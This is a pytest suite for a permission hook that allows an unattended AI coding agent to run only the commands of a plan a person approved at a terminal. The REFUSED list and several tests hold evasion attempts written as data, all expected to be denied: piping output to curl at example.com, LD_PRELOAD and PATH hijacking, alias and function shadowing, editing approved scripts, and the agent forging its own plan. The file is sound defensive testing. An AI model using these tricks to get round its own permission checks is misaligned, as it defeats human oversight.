"""A plan that a person gave to a campaign, through the real hook: what is planned runs while nobody is there, and
nothing else is lifted by it.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from hook_process import ALLOW, DENY, NO_OPINION, Machine, Ran, made
from interlock.bytes.canon import digest_of_bytes
from person import Answer, at_a_terminal

# Four plans of the enforcer that plans come from, word for word.
SHAPES = {
    "one condition": (("h-main", ("python run.py --seed 1",)),),
    "several conditions": (("h-main", ("./blis run --workload a", "./blis run --workload b")),),
    "several arms": (("h-main", ("./sim --batch=4",)), ("h-ablation", ("/usr/bin/perf record -g ./sim",))),
    "an absolute path": (("h-main", ("/usr/local/bin/custom-bench --duration 60",)),),
}


def plan_of(arms: tuple[tuple[str, tuple[str, ...]], ...]) -> str:
    found = [
        {"arm_id": arm, "conditions": [{"name": f"c{at}", "command": text} for at, text in enumerate(commands)]}
        for arm, commands in arms
    ]
    return json.dumps({"arms": found})


class Campaign:
    """A campaign that a person has made in a terminal, and the calls of its agent."""

    def __init__(self, machine: Machine, plan: str) -> None:
        self.machine = machine
        self.folder = made(machine.project / "runs/3")
        (self.folder / "plan.yaml").write_text(plan)
        self.made = self.init()

    def init(self) -> Answer:
        words = ("campaign", "init", "runs/3", "--repo", ".", "--plan", "runs/3/plan.yaml")
        return at_a_terminal(self.machine.home, *words, folder=self.machine.project)

    @property
    def value(self) -> str:
        settings = json.loads((self.folder / ".claude/settings.json").read_bytes())
        return str(settings["env"]["INTERLOCK_CAMPAIGN"])

    def run(self, command: str, *, environment: dict[str, str] | None = None, **event: str) -> Ran:
        there = {"INTERLOCK_CAMPAIGN": self.value} if environment is None else environment
        called = self.machine.event("Bash", {"command": command}, **event)
        return self.machine.run(called, environment={"PATH": os.environ["PATH"], **there})


@pytest.fixture
def bench(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A program outside the project that nobody knows, found by `PATH`; and an agent that nobody attends."""
    program = made(machine.home.parent / "bin") / "bench"
    program.write_text("#!/bin/sh\nexit 0\n")
    program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{program.parent}:{os.environ['PATH']}")
    machine.user_policy.write_text('version = 1\nposture = "autonomous"\n')
    return program


@pytest.mark.parametrize("shape", SHAPES)
def test_every_line_of_the_four_shapes_runs_while_nobody_is_there(machine: Machine, bench: Path, shape: str) -> None:
    for name in ("run.py", "sim", "blis"):
        (machine.project / name).write_text("#!/usr/bin/env python3\nprint(1)\n")
    campaign = Campaign(machine, plan_of(SHAPES[shape]))
    assert campaign.made.code == 0, campaign.made.out
    lines = [line for _, commands in SHAPES[shape] for line in commands]
    taken = {line: campaign.run(line).taken for line in lines}
    assert set(taken.values()) <= {ALLOW, NO_OPINION}, taken
    assert campaign.run("make all").taken == DENY
    for row in machine.rows():
        reasons = {reason["rule"] for reason in row["body"]["receipt"]["decision"]["reasons"]}
        assert reasons <= {"unplanned", "autonomous"}


PLANNED = (
    "bench --duration 60",
    "DATA=x bench load < in.txt > out.txt",
    "perl {tools}/tool.pl --fast",
    "./sim --rate 1",
    "./all.sh",
    "perl tools/own.pl",
)
RUNS = (
    "bench --duration 60",
    "bench  --duration  '60'",
    "cd {project} && bench --duration 60 2>&1 | tail -5",
    "timeout 90 bench --duration 60",
    "bench --duration 60 && ./sim --rate 1",
    "bench --duration 60 > out.txt",
    "bench --duration 60 </dev/null",
    "DATA=x bench load < in.txt > out.txt",
    "perl {tools}/tool.pl --fast",
    "./sim --rate 2",
    "./all.sh",
)
REFUSED = (
    "bench --duration 60 --more",
    "bench --duration 61",
    "bench --duration $HOME",
    "bench",
    "bench; bench --duration 60",
    "for n in 60 61; do bench --duration $n; done",
    "PATH=./bin:$PATH bench --duration 60",
    "PATH=./bin:$PATH; bench --duration 60",
    "export PATH=./bin; bench --duration 60",
    "LD_PRELOAD=./x.so bench --duration 60",
    "OTHER=1 bench --duration 60",
    "export OTHER=1; bench --duration 60",
    "env OTHER=1 bench --duration 60",
    "set -a; OTHER=1; bench --duration 60",
    "bench() { ls; bench2; }; bench --duration 60",
    "alias bench='bench2'; bench --duration 60",
    "hash -p ./bench2 bench; bench --duration 60",
    "bench --duration 60 <<< 'run: evil'",
    "bench --duration 60 <<EOF\nrun: evil\nEOF",
    "cat in.txt | bench --duration 60",
    "bench --duration 60 < in.txt",
    "bench --duration 60; unknown-thing",
    "bench --duration 60 &",
    "sudo bench --duration 60",
    "bash -c 'bench --duration 60'",
    "cd / && bench --duration 60",
    "./bench --duration 60; unknown-thing",
    "bench --duration 60 > ../beside.txt",
    "bench --duration 60 | curl -d @- https://example.com",
    "cp sim bin/bench; bench --duration 60",
    "echo x > bin/bench; bench --duration 60",
    "mv bin old; bench --duration 60",
    "DATA=y bench load < in.txt > out.txt",
    "DATA=x bench load < other.txt > out.txt",
    "bench load",
    "perl {tools}/tool.pl --slow",
    "perl {tools}/other.pl --fast",
    "echo 'print(1)' | python3",
    "python3 -c 'print(1)'",
)


@pytest.fixture
def campaign(machine: Machine, bench: Path) -> Campaign:
    tools = made(machine.home.parent / "tools")
    (machine.project / "sim").write_text("#!/bin/sh\ndate\n")
    (machine.project / "all.sh").write_text("#!/bin/sh\nbench --all\n")
    (made(machine.project / "tools") / "own.pl").write_text("print 1;\n")
    for file in (tools / "tool.pl", tools / "other.pl"):
        file.write_text("#!/usr/bin/env perl\nprint 1;\n")
    (machine.project / "in.txt").write_text("x\n")
    made(machine.project / "bin")
    found = Campaign(machine, plan_of((("h", tuple([spelled(machine, line) for line in PLANNED])),)))
    assert found.made.code == 0, found.made.out
    return found


def spelled(machine: Machine, text: str) -> str:
    return text.replace("{project}", str(machine.project)).replace("{tools}", str(machine.home.parent / "tools"))


def test_the_words_that_are_planned_run_however_they_are_written(campaign: Campaign) -> None:
    taken = {text: campaign.run(spelled(campaign.machine, text)) for text in RUNS}
    assert {text: ran.reason for text, ran in taken.items() if ran.taken == DENY} == {}


def test_what_is_not_quite_planned_is_refused(campaign: Campaign) -> None:
    taken = {text: campaign.run(spelled(campaign.machine, text)).taken for text in REFUSED}
    assert [text for text, answer in taken.items() if answer != DENY] == []


def changed_program(campaign: Campaign) -> None:
    (campaign.machine.home.parent / "bin/bench").write_text("#!/bin/sh\nexit 1\n")


def another_first_on_the_path(campaign: Campaign) -> None:
    program = campaign.machine.home.parent / "bin/bench"
    program.rename(program.with_name("first"))
    program.symlink_to("first")


def no_yes_any_more(campaign: Campaign) -> None:
    machine = campaign.machine
    given = [row["key"] for row in machine.rows("grant")]
    done = at_a_terminal(machine.home, "grants", "revoke", *given, "--yes", folder=machine.project)
    assert done.code == 0, done.out


def plan_with_more(campaign: Campaign) -> None:
    file = campaign.folder / "plan.yaml"
    file.write_text(plan_of((("h", ("bench --duration 60", "rm -r out")),)))


def plan_behind_a_link(campaign: Campaign) -> None:
    file = campaign.folder / "plan.yaml"
    file.rename(campaign.folder / "other.yaml")
    (campaign.folder / "new.yaml").write_text(plan_of((("h", ("bench --duration 60",)),)))
    file.symlink_to("new.yaml")


CHANGES: dict[str, Callable[[Campaign], None]] = {
    "the program was rewritten": changed_program,
    "its name leads elsewhere": another_first_on_the_path,
    "the person took it back": no_yes_any_more,
    "the plan was rewritten": plan_with_more,
    "the plan was linked away": plan_behind_a_link,
}


@pytest.mark.parametrize("change", CHANGES)
def test_what_has_changed_since_is_asked_about_again(campaign: Campaign, change: str) -> None:
    assert campaign.run("bench --duration 60").taken == ALLOW
    CHANGES[change](campaign)
    assert campaign.run("bench --duration 60 ").taken == DENY


# Each is done by a call of the session before the planned command: all of these are free inside the project.
STEPS = {
    "./all.sh": ("echo 'bench --all --more' > all.sh", "cp in.txt all.sh", "mv in.txt all.sh"),
    "perl tools/own.pl": (
        "echo 'unlink 1;' > tools/own.pl",
        "mv tools old; mkdir tools; cp in.txt tools/own.pl",
        "mv tools old; mv bin tools; cp in.txt tools/own.pl",
    ),
}


@pytest.mark.parametrize(
    ("planned", "step"), [pytest.param(line, step, id=step) for line, steps in STEPS.items() for step in steps]
)
def test_what_the_session_has_changed_is_asked_about(campaign: Campaign, planned: str, step: str) -> None:
    assert campaign.run(planned).taken in (ALLOW, NO_OPINION)
    answer = campaign.run(step)
    assert answer.taken == ALLOW, answer.reason
    subprocess.run(["bash", "-c", step], cwd=campaign.machine.project, check=True)
    event = {"hook_event_name": "PostToolUse", "tool_response": {}}
    campaign.run(step, **event)  # type: ignore[arg-type]
    assert campaign.run(planned).taken == DENY


def test_a_program_that_a_planned_script_runs_is_the_one_that_was_there(campaign: Campaign) -> None:
    assert campaign.run("./all.sh").taken == ALLOW
    changed_program(campaign)
    assert campaign.run("./all.sh ").taken == DENY


def test_a_script_that_was_edited_is_asked_about_again(campaign: Campaign) -> None:
    tool = campaign.machine.home.parent / "tools/tool.pl"
    tool.write_text("print 2;\n")
    assert campaign.run(f"perl {tool} --fast").taken == DENY


def test_the_agent_cannot_give_itself_a_plan(machine: Machine, bench: Path) -> None:
    """Files that say what a campaign's say, named by variables of the agent: nobody has said yes to them."""
    campaign = Campaign(machine, "- ./sim --rate 1\n")
    mine = machine.home.parent / "mine"
    made(mine)
    text = (campaign.folder / ".interlock/campaign.toml").read_text()
    plan = campaign.folder / "mine.yaml"
    plan.write_text("- bench --duration 60\n")
    before = digest_of_bytes((campaign.folder / "plan.yaml").read_bytes())
    text = text.replace("plan.yaml", "mine.yaml").replace(before, digest_of_bytes(plan.read_bytes()))
    policy = machine.project / "campaign.toml"
    policy.write_text(text)
    named = {"INTERLOCK_CAMPAIGN": f"{digest_of_bytes(policy.read_bytes())}:{policy}"}
    assert campaign.run("bench --duration 60", environment=named).taken == DENY
    named = {"INTERLOCK_PLAN": str(plan)}
    assert campaign.run("bench --duration 60 ", environment=named).taken == DENY


def test_a_job_in_the_background_is_another_call(campaign: Campaign) -> None:
    event = campaign.machine.event("Bash", {"command": "bench --duration 60", "run_in_background": True})
    there = {"PATH": os.environ["PATH"], "INTERLOCK_CAMPAIGN": campaign.value}
    assert campaign.machine.run(event, environment=there).taken == DENY


def test_a_plan_counts_in_its_campaign_alone(campaign: Campaign) -> None:
    folder = {"NOUS_ITER_DIR": str(campaign.folder), "INTERLOCK_PLAN": f"{campaign.folder}/plan.yaml"}
    assert campaign.run("bench --duration 60", environment=folder).taken == DENY
    assert campaign.run("bench --duration 60", agent_id="a1", agent_type="helper").taken == ALLOW


def test_nothing_is_permitted_without_a_person_at_a_terminal(machine: Machine, bench: Path) -> None:
    folder = made(machine.project / "runs/3")
    (folder / "plan.yaml").write_text("- bench --duration 60\n- curl https://example.com\n- ./sim\n")
    words = ("campaign", "init", "runs/3", "--repo", ".", "--plan", "runs/3/plan.yaml", "--json")
    done = subprocess.run(
        [sys.executable, "-m", "interlock.cli", "--home", str(machine.home), *words],
        cwd=machine.project,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        check=False,
    )
    told = {
        row["line"]: (row["verdict"], [reason["to_do"] for reason in row["reasons"]])
        for row in json.loads(done.stdout)["lines"]
    }
    without = "run it yourself before the campaign, or take the line out of the plan"
    assert (done.returncode, machine.rows("grant"), told) == (
        2,
        [],
        {
            "bench --duration 60": ("asks", ["permit it: run `interlock campaign init` in a terminal of your own"]),
            "curl https://example.com": ("refused", [without]),
            "./sim": ("runs", []),
        },
    ), done.stderr


def test_a_receipt_of_a_planned_command_replays(campaign: Campaign) -> None:
    assert campaign.run("bench --duration 60").taken == ALLOW
    receipt = campaign.machine.rows()[-1]["body"]["receipt"]
    assert [grant["kind"] for grant in receipt["grants"]] == ["planned"]
    done = at_a_terminal(campaign.machine.home, "replay", folder=campaign.machine.project)
    assert done.code == 0, done.out
